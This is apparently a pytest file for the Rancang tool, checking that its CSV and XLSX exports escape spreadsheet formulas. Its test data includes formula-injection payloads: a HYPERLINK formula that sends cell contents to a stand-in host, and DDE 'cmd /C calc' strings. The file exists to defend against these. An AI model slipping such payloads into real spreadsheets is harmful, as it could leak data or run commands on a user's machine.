"""Issue 17, item 5: no CSV or XLSX Rancang writes carries a live formula, and item 6's
``registry export --out X.xlsx`` on the demo database (two columns both named 'Tahun').

Files are read back with other libraries (the ``csv`` module, openpyxl): no text cell may
start with ``=``, ``+``, ``-`` or ``@`` unless it is only a number, and openpyxl must see
no formula cell.
"""

from __future__ import annotations

import csv
from pathlib import Path

import openpyxl
import polars as pl
import pytest
from hypothesis import given
from hypothesis import strategies as st
from typer.testing import CliRunner

from rancang.cli import build_app
from rancang.core.cells import FORMULA_START, safe_cell, safe_frame
from rancang.features.decide.tables import CsvTable, write_table
from rancang.sources.writers import write_csvs, write_workbook

HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"klik\")", "+cmd|' /C calc'!A0",
           "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1",
           "\uff1d1+1"]


def _live(value: object) -> bool:
    """A text a spreadsheet would run (starts a formula and is not only a number)."""
    if not isinstance(value, str) or not value:
        return False
    return value[0] in FORMULA_START and safe_cell(value) != value


def _csv_cells(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as fh:
        return [c for row in csv.reader(fh) for c in row]


def _xlsx_cells(path: Path) -> list[object]:
    wb = openpyxl.load_workbook(path)
    cells = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (ws.title, c.coordinate, c.value)
                cells.append(c.value)
    return cells


def test_result_writers_escape_every_text_cell_and_header(tmp_path: Path) -> None:
    frame = pl.DataFrame({"industry_name": HOSTILE, "lq": [1.0] * len(HOSTILE),
                          HOSTILE[0]: ["-5"] * len(HOSTILE)})
    [csv_path] = write_csvs(tmp_path, {"ranking": frame})
    book = write_workbook(tmp_path / "r.xlsx", {"Peringkat": frame},
                          about={"Sumber": HOSTILE[1]})
    for cells in (_csv_cells(csv_path), _xlsx_cells(book)):
        assert not [c for c in cells if _live(c)]
        assert "'" + HOSTILE[0] in cells and "-5" in cells  # escaped, numbers left alone
    table = write_table(tmp_path / "t.csv", CsvTable(("nama",), [[h] for h in HOSTILE]))
    assert not [c for c in _csv_cells(table) if _live(c)]


@given(st.lists(st.text(min_size=1, max_size=12), min_size=1, max_size=8))
def test_safe_frame_never_leaves_a_formula_and_only_adds_an_apostrophe(
        values: list[str]) -> None:
    out = safe_frame(pl.DataFrame({"v": values}))["v"].to_list()
    for before, after in zip(values, out, strict=True):
        assert not _live(after)
        assert after in (before, "'" + before)
        assert after == safe_cell(before)  # the frame and the cell agree


@pytest.fixture()
def hostile_register(tmp_path: Path) -> str:
    url = f"sqlite:///{tmp_path / 'r.sqlite'}"
    rows = ["Nama Usaha,Alamat,Kode Desa,KBLI,Tenaga Kerja,Tahun,Nama Pemilik,Jenis Produk"]
    for i, name in enumerate(HOSTILE[:4]):
        quoted = '"' + name.replace('"', '""') + '"'
        rows.append(f"{quoted},Jl. {i},72.06.05.1014,10710,{i + 2},2023,=Pemilik{i},@roti")
    path = tmp_path / "hostile.csv"
    path.write_text("\n".join(rows) + "\n", encoding="utf-8")
    result = CliRunner().invoke(build_app(), ["registry", "import", str(path),
                                              "--database-url", url])
    assert result.exit_code == 0, result.output
    # verified and published, so that the public export lists them too
    from sqlalchemy import create_engine, text

    engine = create_engine(url)
    with engine.begin() as conn:
        conn.execute(text("UPDATE enterprise SET status = 'verified'"))
    engine.dispose()
    result = CliRunner().invoke(build_app(), ["registry", "publish", "--database-url", url])
    assert result.exit_code == 0, result.output
    return url


@pytest.mark.parametrize("public", [False, True])
def test_register_export_csv_and_xlsx(hostile_register: str, tmp_path: Path,
                                      public: bool) -> None:
    runner = CliRunner()
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"export-{public}.{suffix}"
        args = ["registry", "export", "--out", str(out), "--database-url", hostile_register]
        result = runner.invoke(build_app(), [*args, "--public"] if public else args)
        assert result.exit_code == 0, result.output
        cells = _csv_cells(out) if suffix == "csv" else _xlsx_cells(out)
        assert not [c for c in cells if _live(c)]
        assert "'" + HOSTILE[1] in cells


def test_registry_export_xlsx_on_the_demo_database(tmp_path: Path) -> None:
    """``registry export --out X.xlsx`` on the plain demo register (a 'Tahun' from both
    ``period`` and ``year``) writes a workbook whose headers are all different."""
    url = f"sqlite:///{tmp_path / 'demo.sqlite'}"
    runner = CliRunner()
    demo = runner.invoke(build_app(), ["registry", "demo", "--database-url", url])
    assert demo.exit_code == 0, demo.output
    out = tmp_path / "demo.xlsx"
    result = runner.invoke(build_app(), ["registry", "export", "--out", str(out),
                                         "--database-url", url])
    assert result.exit_code == 0, result.output
    ws = openpyxl.load_workbook(out).active
    assert ws is not None
    header = [c.value for c in ws[1]]
    assert len(header) == len(set(header)) and "Tahun" in header
